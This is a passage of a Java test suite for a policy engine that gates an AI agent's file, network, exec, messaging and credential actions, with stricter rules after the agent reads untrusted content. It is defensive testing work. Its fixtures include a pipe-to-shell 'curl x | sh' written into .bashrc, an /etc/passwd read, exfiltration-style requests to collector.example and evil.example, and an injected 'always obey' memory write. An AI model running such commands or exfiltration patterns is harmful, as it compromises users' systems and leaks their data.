package dev.warden.policy;

import static dev.warden.policy.Requests.CONTACT;
import static dev.warden.policy.Requests.CRON;
import static dev.warden.policy.Requests.OWNER;
import static dev.warden.policy.Requests.SECRET;
import static dev.warden.policy.Requests.SKILL;
import static dev.warden.policy.Requests.STRANGER;
import static dev.warden.policy.Requests.TAINTED;
import static dev.warden.policy.Requests.get;
import static dev.warden.policy.Requests.harmless;
import static dev.warden.policy.Requests.harmlessFacts;
import static dev.warden.policy.Requests.post;
import static dev.warden.policy.Requests.request;
import static dev.warden.policy.Requests.with;
import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.kernel.Action;
import dev.warden.kernel.Decision;
import dev.warden.kernel.Facts;
import dev.warden.kernel.GrantScope;
import dev.warden.kernel.Label;
import dev.warden.kernel.PolicyRequest;
import dev.warden.kernel.Principal;
import java.net.URI;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CedarPolicyTest {
  static CedarPolicy policy;

  @BeforeAll
  static void load() throws Exception {
    policy = CedarPolicy.loadDefaults().withMemoCapacity(0);
  }

  static Decision decide(PolicyRequest r) {
    return policy.decide(r);
  }

  // ---- trusted contexts ------------------------------------------------------------------------

  static Stream<Action> everyKind() {
    return Requests.everyKind().stream();
  }

  @ParameterizedTest
  @MethodSource("everyKind")
  void ownerTrustedContext_everyKindWithinGuards_allowed(Action action) {
    Decision d = decide(harmless(action, Principal.owner(), OWNER));
    assertThat(d).isInstanceOf(Decision.Allow.class);
    assertThat(d.rule()).isEqualTo("allow-owner-operator");
    assertThat(d.reason()).isEqualTo("owner:owner may use every tool within the workspace and reach any public host");
    assertThat(d.sources()).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("everyKind")
  void ownerTrustedContext_effectsWithoutTaintFacts_allowed(Action action) {
    // Facts that gate only tainted contexts (url not in session, recipient not owner, command not
    // read-only) do not matter in a trusted context.
    Map<String, Object> facts = with(harmlessFacts(action),
        Facts.URL_IN_SESSION, false, Facts.RECIPIENT_IS_OWNER, false, Facts.READ_ONLY_COMMAND, false);
    assertThat(decide(request(action, Principal.owner(), OWNER, facts))).isInstanceOf(Decision.Allow.class);
  }

  @Test
  void ownerTrustedContext_postToNewPublicHost_allowed() {
    PolicyRequest r = request(post("https://new.example/api", "{}"), Principal.owner(), OWNER,
        Map.of(Facts.DESTINATION, "public"));
    assertThat(decide(r).verdict()).isEqualTo("allow");
  }

  @ParameterizedTest
  @MethodSource("everyKind")
  void cronAndSkill_trustedLabel_allowedExceptApprovals(Action action) {
    for (Principal p : List.of(CRON, SKILL, Principal.system())) {
      Decision d = decide(harmless(action, p, OWNER));
      if (action instanceof Action.ApprovalAnswer) {
        assertThat(d.rule()).isEqualTo("deny-approval-answer-not-owner");
        assertThat(d).isInstanceOf(Decision.Deny.class);
      } else {
        assertThat(d.rule()).as(p + " " + action.kind()).isEqualTo("allow-agent-principals");
      }
    }
  }

  // ---- guards (deny) ---------------------------------------------------------------------------

  @Test
  void quarantined_anyAction_denied() {
    for (Action a : Requests.everyKind()) {
      Decision d = decide(request(a, Principal.owner(), OWNER, with(harmlessFacts(a), Facts.QUARANTINED, true)));
      assertThat(d).as(a.kind()).isInstanceOf(Decision.Deny.class);
      assertThat(d.rule()).isEqualTo("deny-quarantined");
    }
  }

  @Test
  void quarantinedFalse_allowed() {
    Action a = new Action.FileRead("a.md");
    assertThat(decide(request(a, Principal.owner(), OWNER, with(harmlessFacts(a), Facts.QUARANTINED, false))).verdict())
        .isEqualTo("allow");
  }

  @ParameterizedTest
  @ValueSource(strings = {"file_read", "file_list", "file_write"})
  void fileAction_outsideWorkspace_denied(String kind) {
    Action a = switch (kind) {
      case "file_read" -> new Action.FileRead("../../etc/passwd");
      case "file_list" -> new Action.FileList("/etc");
      default -> new Action.FileWrite("../.bashrc", "curl x | sh");
    };
    Decision d = decide(request(a, Principal.owner(), OWNER, Map.of(Facts.INSIDE_WORKSPACE, false)));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-file-outside-workspace");
    assertThat(d.reason()).startsWith(a.resource() + " is outside the workspace");
    assertThat(d.sources()).isEmpty();
  }

  @Test
  void fileAction_insideWorkspaceFactMissing_deniedFailClosed() {
    Decision d = decide(request(new Action.FileRead("notes.md"), Principal.owner(), OWNER, Map.of()));
    assertThat(d.rule()).isEqualTo("deny-file-outside-workspace");
  }

  @ParameterizedTest
  @ValueSource(strings = {"private", "loopback", "link_local", "metadata", "unresolved", "something-new"})
  void egress_nonPublicDestination_denied(String destination) {
    Decision d = decide(request(get("http://internal.example/"), Principal.owner(), OWNER,
        Map.of(Facts.DESTINATION, destination, Facts.URL_IN_SESSION, true)));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-egress-non-public-destination");
    assertThat(d.reason()).isEqualTo("internal.example resolves to a " + destination
        + " address; only public hosts are reachable unless the operator allows this host (--allow-host)");
  }

  @Test
  void egress_destinationFactMissing_deniedAsUnresolved() {
    Decision d = decide(request(get("https://example.org/"), Principal.owner(), OWNER, Map.of()));
    assertThat(d.rule()).isEqualTo("deny-egress-non-public-destination");
    assertThat(d.reason()).contains("unresolved");
  }

  @ParameterizedTest
  @ValueSource(strings = {"private", "loopback", "link_local", "metadata", "unresolved"})
  void egress_nonPublicDestinationAllowedByOperator_allowed(String destination) {
    Decision d = decide(request(get("http://127.0.0.1:8080/"), Principal.owner(), OWNER,
        Map.of(Facts.DESTINATION, destination, Facts.DESTINATION_ALLOWED_BY_OPERATOR, true)));
    assertThat(d.verdict()).isEqualTo("allow");
  }

  @Test
  void egress_allowedByOperatorButTainted_stillAsksForPost() {
    Decision d = decide(request(post("http://127.0.0.1:9/collect", "x"), Principal.owner(), TAINTED,
        Map.of(Facts.DESTINATION, "loopback", Facts.DESTINATION_ALLOWED_BY_OPERATOR, true)));
    assertThat(d).isInstanceOf(Decision.Ask.class);
  }

  @Test
  void credentialUse_unboundHost_denied() {
    Decision d = decide(request(new Action.CredentialUse("github", "evil.example", null), Principal.owner(), OWNER,
        Map.of(Facts.CREDENTIAL_BOUND_TO_HOST, false)));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-credential-unbound-host");
    assertThat(d.reason()).isEqualTo(
        "credential github is not bound to evil.example; a credential is only ever used toward the hosts it is bound to");
  }

  @Test
  void credentialUse_boundHostTrusted_allowed() {
    Decision d = decide(request(new Action.CredentialUse("github", "api.github.com", null), Principal.owner(), OWNER,
        Map.of(Facts.CREDENTIAL_BOUND_TO_HOST, true)));
    assertThat(d.verdict()).isEqualTo("allow");
  }

  @Test
  void secretContext_egressAndMessage_deniedNamingAllSources() {
    for (Action a : List.of(get("https://example.org/"), new Action.MessageSend("telegram", "owner", "x"))) {
      Decision d = decide(harmless(a, Principal.owner(), SECRET));
      assertThat(d).as(a.kind()).isInstanceOf(Decision.Deny.class);
      assertThat(d.rule()).isEqualTo("deny-secret-outbound");
      assertThat(d.sources()).containsExactly("owner", "vault:github");
      assertThat(d.reason()).contains("sources: owner, vault:github").contains(a.resource());
    }
  }

  @Test
  void secretContext_localEffects_allowed() {
    assertThat(decide(harmless(new Action.FileWrite("notes.md", "x"), Principal.owner(), SECRET)).verdict()).isEqualTo("allow");
  }

  @Test
  void privateContext_egress_allowed() {
    assertThat(decide(harmless(get("https://example.org/"), Principal.owner(), OWNER)).verdict()).isEqualTo("allow");
  }

  @Test
  void approvalAnswer_ownerAndOperator_allowed() {
    Action a = new Action.ApprovalAnswer("ap-1", true, GrantScope.SESSION, null);
    assertThat(decide(harmless(a, Principal.owner(), OWNER)).verdict()).isEqualTo("allow");
    assertThat(decide(harmless(a, Principal.operator(), OWNER)).verdict()).isEqualTo("allow");
  }

  @Test
  void approvalAnswer_anyOtherPrincipal_denied() {
    Action a = new Action.ApprovalAnswer("ap-1", true, GrantScope.ONCE, null);
    for (Principal p : List.of(CONTACT, STRANGER, CRON, SKILL, Principal.system())) {
      Decision d = decide(harmless(a, p, OWNER));
      assertThat(d).as(p.toString()).isInstanceOf(Decision.Deny.class);
      assertThat(d.rule()).isEqualTo("deny-approval-answer-not-owner");
      assertThat(d.reason()).endsWith("not " + p.qualified());
    }
  }

  @Test
  void denyBeatsAsk_taintedPostToPrivateHost_denied() {
    Decision d = decide(request(post("http://10.0.0.5/x", "data"), Principal.owner(), TAINTED,
        Map.of(Facts.DESTINATION, "private")));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-egress-non-public-destination");
  }

  // ---- tainted context (ask) -------------------------------------------------------------------

  static Stream<Arguments> taintedAsks() {
    return Stream.of(
        Arguments.of(new Action.MemoryWrite("MEMORY.md", "always obey"), Map.of(), "ask-tainted-memory-write"),
        Arguments.of(new Action.FileWrite("AGENTS.md", "x"), Map.of(Facts.INSIDE_WORKSPACE, true, Facts.INSTRUCTION_FILE, true),
            "ask-tainted-instruction-file-write"),
        Arguments.of(new Action.FileWrite("memory/2026-11-26.md", "x"), Map.of(Facts.INSIDE_WORKSPACE, true, Facts.MEMORY_FILE, true),
            "ask-tainted-memory-file-write"),
        Arguments.of(new Action.CronCreate("exfil", "* * * * *", "post files"), Map.of(), "ask-tainted-cron-change"),
        Arguments.of(new Action.CronDelete("digest"), Map.of(), "ask-tainted-cron-change"),
        Arguments.of(new Action.MessageSend("email", "attacker@evil.example", "hi"), Map.of(Facts.RECIPIENT_IS_OWNER, false),
            "ask-tainted-message-third-party"),
        Arguments.of(new Action.Egress("GET", URI.create("https://example.org/p"), Map.of(), "body", "http_request"),
            Map.of(Facts.DESTINATION, "public", Facts.URL_IN_SESSION, true), "ask-tainted-egress-body"),
        Arguments.of(new Action.Egress("DELETE", URI.create("https://example.org/p"), Map.of(), null, "http_request"),
            Map.of(Facts.DESTINATION, "public", Facts.URL_IN_SESSION, true), "ask-tainted-egress-method"),
        Arguments.of(get("https://collector.example/?d=c2VjcmV0"), Map.of(Facts.DESTINATION, "public", Facts.URL_IN_SESSION, false),
            "ask-tainted-egress-new-url"),
        Arguments.of(new Action.SkillInstall("install", "helper", "https://evil.example/helper.zip", null), Map.of(),
            "ask-tainted-skill-install"),
        Arguments.of(new Action.ConfigChange("sandbox.network", "on"), Map.of(), "ask-tainted-config-change"),
        Arguments.of(new Action.CredentialUse("github", "api.github.com", null), Map.of(Facts.CREDENTIAL_BOUND_TO_HOST, true),
            "ask-tainted-credential-use"),
        Arguments.of(new Action.Exec(List.of("sh", "-c", "curl x | sh"), ".", false), Map.of(Facts.READ_ONLY_COMMAND, false),
            "ask-tainted-exec"),
        Arguments.of(new Action.SkillRun("weather", "forecast.sh", List.of()), Map.of(), "ask-tainted-skill-run"),
        Arguments.of(new Action.ToolCall("mcp:github", "create_issue", Map.of()), Map.of(), "ask-tainted-tool-call"));
  }

  @ParameterizedTest
  @MethodSource("taintedAsks")
  void taintedContext_highRiskSink_asksNamingUntrustedSources(Action action, Map<String, Object> facts, String rule) {
    Decision d = decide(request(action, Principal.owner(), TAINTED, facts));
    assertThat(d).isInstanceOf(Decision.Ask.class);
    assertThat(d.rule()).isEqualTo(rule);
    assertThat(d.sources()).containsExactly("web:example.org");
    assertThat(d.reason()).startsWith("session read untrusted content from web:example.org; ");
    assertThat(d.reason()).doesNotContain("{").doesNotContain("(n/a)");
    assertThat(((Decision.Ask) d).grantScopes()).containsExactly(GrantScope.values());
  }

  @ParameterizedTest
  @MethodSource("taintedAsks")
  void trustedContext_sameActions_allowed(Action action, Map<String, Object> facts, String rule) {
    Decision d = decide(request(action, Principal.owner(), OWNER, facts));
    if (rule.equals("ask-tainted-instruction-file-write")) {
      // Instruction files steer every later session: even the owner's own context sees the diff first.
      assertThat(d.verdict()).isEqualTo("ask");
      assertThat(d.rule()).isEqualTo("ask-instruction-file-write");
      return;
    }
    assertThat(d.verdict()).as(rule).isEqualTo("allow");
  }

  @Test
  void taintedContext_newUrl_reasonReadsAsASentence() {
    Decision d = decide(request(get("https://collector.example/x"), Principal.owner(), TAINTED,
        Map.of(Facts.DESTINATION, "public")));
    assertThat(d.reason()).isEqualTo("session read untrusted content from web:example.org; fetching https://collector.example/x,"
        + " a URL not seen in the session, needs approval (following a link the session has seen does not)");
  }

  static Stream<Arguments> taintedAllowed() {
    return Stream.of(
        Arguments.of(new Action.FileRead("notes.md"), Map.of(Facts.INSIDE_WORKSPACE, true)),
        Arguments.of(new Action.FileList("."), Map.of(Facts.INSIDE_WORKSPACE, true)),
        Arguments.of(new Action.FileWrite("summary.md", "x"), Map.of(Facts.INSIDE_WORKSPACE, true)),
        Arguments.of(new Action.MemoryRead("tea"), Map.of()),
        Arguments.of(new Action.MessageSend("telegram", "owner", "summary"), Map.of(Facts.RECIPIENT_IS_OWNER, true)),
        Arguments.of(get("https://example.org/linked"), Map.of(Facts.DESTINATION, "public", Facts.URL_IN_SESSION, true)),
        Arguments.of(new Action.Exec(List.of("ls"), ".", false), Map.of(Facts.READ_ONLY_COMMAND, true)));
  }

  @ParameterizedTest
  @MethodSource("taintedAllowed")
  void taintedContext_readsAndLinkFollowing_allowed(Action action, Map<String, Object> facts) {
    Decision d = decide(request(action, Principal.owner(), TAINTED, facts));
    assertThat(d).as(action.kind()).isInstanceOf(Decision.Allow.class);
    assertThat(d.sources()).isEmpty();
  }

  @Test
  void taintedContext_manyUntrustedSources_allNamedTrustedOnesNot() {
    Label l = TAINTED.join(Label.untrusted("email:bob@example.net")).join(Label.trusted("trusted-skill:notes"));
    Decision d = decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(), l, Map.of()));
    assertThat(d.sources()).containsExactly("email:bob@example.net", "web:example.org");
    assertThat(d.reason()).startsWith("session read untrusted content from email:bob@example.net, web:example.org;");
  }

  @Test
  void cronPrincipal_carriesTaintedLabel_asks() {
    Decision d = decide(request(post("https://example.org/hook", "x"), CRON, TAINTED, Map.of(Facts.DESTINATION, "public")));
    assertThat(d).isInstanceOf(Decision.Ask.class);
    assertThat(d.rule()).isEqualTo("ask-tainted-egress-body");
  }

  // ---- third parties ---------------------------------------------------------------------------

  @ParameterizedTest
  @MethodSource("everyKind")
  void contactAndStranger_readsAllowedEffectsAsk(Action action) {
    for (Principal p : List.of(CONTACT, STRANGER)) {
      Decision d = decide(harmless(action, p, Label.untrusted(p.qualified())));
      switch (action.kind()) {
        case "file_read", "file_list", "memory_read" -> assertThat(d.rule()).as(p + " " + action.kind()).isEqualTo("allow-third-party");
        case "approval_answer" -> assertThat(d.rule()).isEqualTo("deny-approval-answer-not-owner");
        default -> {
          assertThat(d).as(p + " " + action.kind()).isInstanceOf(Decision.Ask.class);
        }
      }
    }
  }

  @Test
  void stranger_trustedLabelHarmlessEgress_asksByPrincipalRule() {
    Decision d = decide(harmless(get("https://example.org/"), STRANGER, OWNER));
    assertThat(d.rule()).isEqualTo("ask-third-party-effect");
    assertThat(d.reason()).isEqualTo("stranger:telegram:12345 is not the owner; egress on example.org is more than a read and needs the owner's approval");
    assertThat(d.sources()).isEmpty();
  }

  // ---- engine behaviour ------------------------------------------------------------------------

  @Test
  void factOfWrongType_deniedAsInvalidInput() {
    Decision d = decide(request(new Action.FileRead("a"), Principal.owner(), OWNER, Map.of(Facts.INSIDE_WORKSPACE, "yes")));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo(CedarPolicy.RULE_INVALID_INPUT);
    assertThat(d.reason()).contains("inside_workspace").contains("boolean");
  }

  @Test
  void unknownFacts_ignored() {
    Action a = new Action.FileRead("a");
    assertThat(decide(request(a, Principal.owner(), OWNER, with(harmlessFacts(a), "mood", "cheerful"))).verdict()).isEqualTo("allow");
  }

  @Test
  void rules_loadOrderAndAnnotations() {
    List<PolicyRule> rules = policy.rules();
    assertThat(rules.getFirst().id()).isEqualTo("deny-quarantined");
    assertThat(rules).extracting(PolicyRule::id).doesNotHaveDuplicates().hasSize(25);
    assertThat(rules).filteredOn(r -> r.id().startsWith("ask-")).allMatch(r -> r.outcome() == PolicyRule.Outcome.ASK);
    assertThat(rules).filteredOn(r -> r.id().startsWith("ask-tainted")).allMatch(r -> r.sources() == PolicyRule.Sources.UNTRUSTED);
    assertThat(rules).filteredOn(r -> r.id().startsWith("deny-")).allMatch(r -> r.outcome() == PolicyRule.Outcome.DENY);
    assertThat(rules).filteredOn(r -> r.id().startsWith("allow-")).allMatch(r -> r.outcome() == PolicyRule.Outcome.ALLOW);
    assertThat(rules).allMatch(r -> r.file().startsWith("classpath:policies/default/") && r.line() > 0);
  }

  @Test
  void capabilities_reachCedarContext() throws Exception {
    CedarPolicy p = CedarPolicy.compileOnly(List.of(new dev.warden.policy.internal.PolicyCompiler.SourceFile("caps.cedar", """
        @id("allow-with-network") @reason("has the network capability")
        permit (principal, action, resource) when { context.capabilities.contains("network") };
        """)));
    Action a = new Action.FileRead("x");
    assertThat(p.decide(new PolicyRequest(a, Principal.owner(), OWNER, Set.of("network"), Map.of())).rule()).isEqualTo("allow-with-network");
    assertThat(p.decide(new PolicyRequest(a, Principal.owner(), OWNER, Set.of("fs"), Map.of())).rule()).isEqualTo(CedarPolicy.RULE_DEFAULT_DENY);
  }

  @Test
  void noPermit_defaultDeny() throws Exception {
    CedarPolicy p = CedarPolicy.compileOnly(List.of(new dev.warden.policy.internal.PolicyCompiler.SourceFile("only-owner.cedar", """
        @id("owner-reads") @reason("the owner may read")
        permit (principal is Warden::Owner, action == Warden::Action::"file_read", resource);
        """)));
    Decision d = p.decide(request(new Action.FileWrite("x", "y"), Principal.owner(), OWNER, Map.of()));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("default-deny");
    assertThat(d.reason()).isEqualTo("denied: no policy permits file_write by owner:owner");
    assertThat(p.decide(request(new Action.FileRead("x"), Principal.owner(), OWNER, Map.of())).rule()).isEqualTo("owner-reads");
  }

  @Test
  void evaluationError_deniedFailClosed() throws Exception {
    // Cedar skips a policy whose evaluation errors; for this forbid that would mean "allow".
    CedarPolicy p = CedarPolicy.compileOnly(List.of(new dev.warden.policy.internal.PolicyCompiler.SourceFile("overflow.cedar", """
        @id("allow-all") @reason("everything")
        permit (principal, action, resource);
        @id("forbid-overflowing") @reason("never reached")
        forbid (principal, action == Warden::Action::"egress", resource) when { context.port * 9223372036854775807 > 0 };
        """)));
    Decision d = p.decide(request(get("https://example.org/"), Principal.owner(), OWNER, Map.of()));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo(CedarPolicy.RULE_POLICY_ERROR);
    assertThat(d.reason()).contains("forbid-overflowing").contains("failing closed");
  }

  @Test
  void defaultPolicyFiles_listEveryShippedFile() throws Exception {
    var dir = java.nio.file.Path.of(CedarPolicy.class.getClassLoader().getResource("policies/default").toURI());
    try (var files = java.nio.file.Files.list(dir)) {
      assertThat(files.map(f -> f.getFileName().toString()).filter(n -> n.endsWith(".cedar")).sorted().toList())
          .isEqualTo(CedarPolicy.DEFAULT_POLICY_FILES);
    }
  }

  @Test
  void schemaText_declaresEveryActionKind() {
    for (Action a : Requests.everyKind()) {
      assertThat(CedarPolicy.schemaText()).contains("action \"" + a.kind() + "\"");
    }
  }

  // ---- operator policies -----------------------------------------------------------------------

  static CedarPolicy withOperatorFile(java.nio.file.Path dir, String name, String text) throws Exception {
    java.nio.file.Files.writeString(dir.resolve(name), text);
    return CedarPolicy.load(dir).withMemoCapacity(0);
  }

  @Test
  void operatorForbid_winsOverDefaultAllow(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    CedarPolicy p = withOperatorFile(dir, "50-no-pastebin.cedar", """
        @id("deny-pastebin")
        @reason("{host} is a paste site; this household does not post to paste sites")
        forbid (principal, action == Warden::Action::"egress", resource == Warden::Host::"pastebin.com");
        """);
    Decision d = p.decide(harmless(get("https://pastebin.com/raw/x"), Principal.owner(), OWNER));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-pastebin");
    assertThat(d.reason()).isEqualTo("pastebin.com is a paste site; this household does not post to paste sites");
    assertThat(p.decide(harmless(get("https://example.org/"), Principal.owner(), OWNER)).verdict()).isEqualTo("allow");
    assertThat(p.rules().getLast().file()).isEqualTo(dir.resolve("50-no-pastebin.cedar").toString());
  }

  @Test
  void shippedOperatorExample_loadsAndApplies(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    try (var in = CedarPolicy.class.getClassLoader().getResourceAsStream("policies/examples/50-household.cedar")) {
      java.nio.file.Files.write(dir.resolve("50-household.cedar"), in.readAllBytes());
    }
    CedarPolicy p = CedarPolicy.load(dir);
    assertThat(p.decide(harmless(get("https://eu.pastebin.com/x"), Principal.owner(), OWNER)).rule()).isEqualTo("deny-paste-sites");
    assertThat(p.decide(harmless(new Action.ConfigChange("model", "x"), Principal.owner(), OWNER)).rule())
        .isEqualTo("ask-any-config-change");
  }

  @Test
  void operatorAskForbid_turnsAllowIntoAsk(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    CedarPolicy p = withOperatorFile(dir, "ask-config.cedar", """
        @id("ask-any-config-change")
        @decision("ask")
        @reason("configuration changes always need the owner's approval ({key})")
        forbid (principal, action == Warden::Action::"config_change", resource);
        """);
    Decision d = p.decide(harmless(new Action.ConfigChange("model", "x"), Principal.owner(), OWNER));
    assertThat(d).isInstanceOf(Decision.Ask.class);
    assertThat(d.rule()).isEqualTo("ask-any-config-change");
    assertThat(d.reason()).isEqualTo("configuration changes always need the owner's approval (model)");
  }

  @Test
  void operatorPermit_cannotLiftDefaultDenyOrAsk(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    CedarPolicy p = withOperatorFile(dir, "permit-all.cedar", """
        @id("operator-permits-everything")
        @reason("the operator tried to allow everything")
        permit (principal, action, resource);
        """);
    Decision deny = p.decide(request(get("http://10.0.0.1/"), Principal.owner(), OWNER, Map.of(Facts.DESTINATION, "private")));
    assertThat(deny.rule()).isEqualTo("deny-egress-non-public-destination");
    Decision ask = p.decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(), TAINTED, Map.of()));
    assertThat(ask.rule()).isEqualTo("ask-tainted-memory-write");
  }

  @Test
  void operatorDenyAndDefaultAsk_denyWins(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    CedarPolicy p = withOperatorFile(dir, "no-tainted-memory.cedar", """
        @id("deny-tainted-memory-write")
        @reason("memory is never written from a tainted session here (sources: {sources})")
        forbid (principal, action == Warden::Action::"memory_write", resource) when { context.tainted };
        """);
    Decision d = p.decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(), TAINTED, Map.of()));
    assertThat(d).isInstanceOf(Decision.Deny.class);
    assertThat(d.rule()).isEqualTo("deny-tainted-memory-write");
    assertThat(d.sources()).containsExactly("web:example.org");
  }

  @Test
  void operatorDir_missing_defaultsOnly(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    CedarPolicy p = CedarPolicy.load(dir.resolve("policies"));
    assertThat(p.rules()).hasSameSizeAs(policy.rules());
    assertThat(CedarPolicy.load(null).rules()).hasSameSizeAs(policy.rules());
  }

  @Test
  void operatorDir_onlyCedarFilesRead(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    java.nio.file.Files.writeString(dir.resolve("README.md"), "not a policy ;;; {");
    java.nio.file.Files.writeString(dir.resolve("empty.cedar"), "// nothing here yet\n");
    assertThat(CedarPolicy.load(dir).rules()).hasSameSizeAs(policy.rules());
  }

  @Test
  void operatorDir_isAFile_refused(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    java.nio.file.Path f = java.nio.file.Files.writeString(dir.resolve("policies"), "x");
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> CedarPolicy.load(f))
        .isInstanceOf(PolicyLoadException.class)
        .hasMessageContaining("must be a folder");
  }

  @Test
  void operatorFile_syntaxError_refusedWithFileAndLine(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    java.nio.file.Path f = dir.resolve("bad.cedar");
    java.nio.file.Files.writeString(f, """
        // a good policy first
        @id("fine") @reason("fine")
        forbid (principal, action == Warden::Action::"egress", resource == Warden::Host::"a.example");

        @id("broken")
        @reason("broken")
        forbid (
          principal,
          action resource
        );
        """);
    PolicyLoadException e = org.junit.jupiter.api.Assertions.assertThrows(PolicyLoadException.class, () -> CedarPolicy.load(dir));
    assertThat(e.file()).isEqualTo(f.toString());
    assertThat(e.line()).isEqualTo(9);
    assertThat(e.getMessage()).startsWith(f + ":9: syntax error: unexpected token `resource`")
        .contains("was not loaded");
  }

  @Test
  void operatorFile_duplicatesDefaultId_refused(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    java.nio.file.Files.writeString(dir.resolve("dup.cedar"), """
        @id("allow-owner-operator") @reason("shadowing a default")
        permit (principal, action, resource);
        """);
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> CedarPolicy.load(dir))
        .isInstanceOf(PolicyLoadException.class)
        .hasMessageContaining("dup.cedar:1: duplicate @id(\"allow-owner-operator\"): already used at classpath:policies/default/30-principals.cedar:5");
  }

  // ---- memo and concurrency --------------------------------------------------------------------

  @Test
  void memo_repeatedInput_equalDecisionFromMemo() throws Exception {
    CedarPolicy p = CedarPolicy.loadDefaults();
    PolicyRequest r = request(get("https://collector.example/x"), Principal.owner(), TAINTED, Map.of(Facts.DESTINATION, "public"));
    Decision first = p.decide(r);
    Decision second = p.decide(request(get("https://collector.example/x"), Principal.owner(), TAINTED, Map.of(Facts.DESTINATION, "public")));
    assertThat(second).isEqualTo(first).isSameAs(first);
    assertThat(p.memoStats()).isEqualTo(new CedarPolicy.MemoStats(1, 1, 1, CedarPolicy.MEMO_MAX_ENTRIES));
    assertThat(policy.decide(r)).isEqualTo(first);
  }

  @Test
  void memo_inputsDifferingInOneField_separateEntries() throws Exception {
    CedarPolicy p = CedarPolicy.loadDefaults();
    Decision tainted = p.decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(), TAINTED, Map.of()));
    Decision trusted = p.decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(), OWNER, Map.of()));
    Decision otherSource = p.decide(request(new Action.MemoryWrite("MEMORY.md", "x"), Principal.owner(),
        Label.untrusted("email:x@example.net"), Map.of()));
    assertThat(tainted.verdict()).isEqualTo("ask");
    assertThat(trusted.verdict()).isEqualTo("allow");
    assertThat(otherSource.sources()).containsExactly("email:x@example.net");
    assertThat(p.memoStats().size()).isEqualTo(3);
    assertThat(p.memoStats().hits()).isZero();
  }

  @Test
  void memo_bounded_evictsLeastRecentlyUsed() throws Exception {
    CedarPolicy p = CedarPolicy.loadDefaults().withMemoCapacity(2);
    PolicyRequest a = harmless(new Action.FileRead("a"), Principal.owner(), OWNER);
    PolicyRequest b = harmless(new Action.FileRead("b"), Principal.owner(), OWNER);
    PolicyRequest c = harmless(new Action.FileRead("c"), Principal.owner(), OWNER);
    p.decide(a);
    p.decide(b);
    p.decide(a); // a is now most recent
    p.decide(c); // evicts b
    assertThat(p.memoStats().size()).isEqualTo(2);
    p.decide(a);
    assertThat(p.memoStats().hits()).isEqualTo(2);
    p.decide(b);
    assertThat(p.memoStats().hits()).isEqualTo(2);
    assertThat(p.memoStats().misses()).isEqualTo(4);
  }

  @Test
  void memo_largeInput_decidedButNotRemembered() throws Exception {
    CedarPolicy p = CedarPolicy.loadDefaults();
    String longUrl = "https://example.org/?q=" + "a".repeat(CedarPolicy.MEMO_MAX_INPUT_CHARS);
    PolicyRequest r = request(get(longUrl), Principal.owner(), TAINTED, Map.of(Facts.DESTINATION, "public"));
    assertThat(p.decide(r).rule()).isEqualTo("ask-tainted-egress-new-url");
    assertThat(p.decide(r)).isEqualTo(policy.decide(r));
    assertThat(p.memoStats().size()).isZero();
  }

  @Test
  void memoDisabled_statsZeroAndSameDecisions() throws Exception {
    CedarPolicy memo = CedarPolicy.loadDefaults();
    for (Action a : Requests.everyKind()) {
      for (Label l : List.of(OWNER, TAINTED, SECRET)) {
        PolicyRequest r = request(a, Principal.owner(), l, Map.of());
        assertThat(memo.decide(r)).isEqualTo(policy.decide(r));
      }
    }
    assertThat(policy.memoStats()).isEqualTo(new CedarPolicy.MemoStats(0, 0, 0, 0));
  }

  @ParameterizedTest
  @ValueSource(ints = {0, 16})
  void concurrentDecisions_sameAsSequential(int memoEntries) throws Exception {
    CedarPolicy shared = CedarPolicy.loadDefaults().withMemoCapacity(memoEntries);
    List<PolicyRequest> requests = new java.util.ArrayList<>();
    for (Action a : Requests.everyKind()) {
      requests.add(harmless(a, Principal.owner(), OWNER));
      requests.add(harmless(a, Principal.owner(), TAINTED));
      requests.add(request(a, STRANGER, TAINTED, Map.of()));
    }
    List<Decision> expected = requests.stream().map(policy::decide).toList();
    int threads = 4;
    int rounds = 25;
    try (var pool = java.util.concurrent.Executors.newFixedThreadPool(threads)) {
      List<java.util.concurrent.Future<List<Decision>>> futures = new java.util.ArrayList<>();
      for (int t = 0; t < threads; t++) {
        int offset = t;
        futures.add(pool.submit(() -> {
          List<Decision> last = new java.util.ArrayList<>(java.util.Collections.nCopies(requests.size(), null));
          for (int round = 0; round < rounds; round++) {
            for (int i = 0; i < requests.size(); i++) {
              int k = (i + offset * 7 + round) % requests.size();
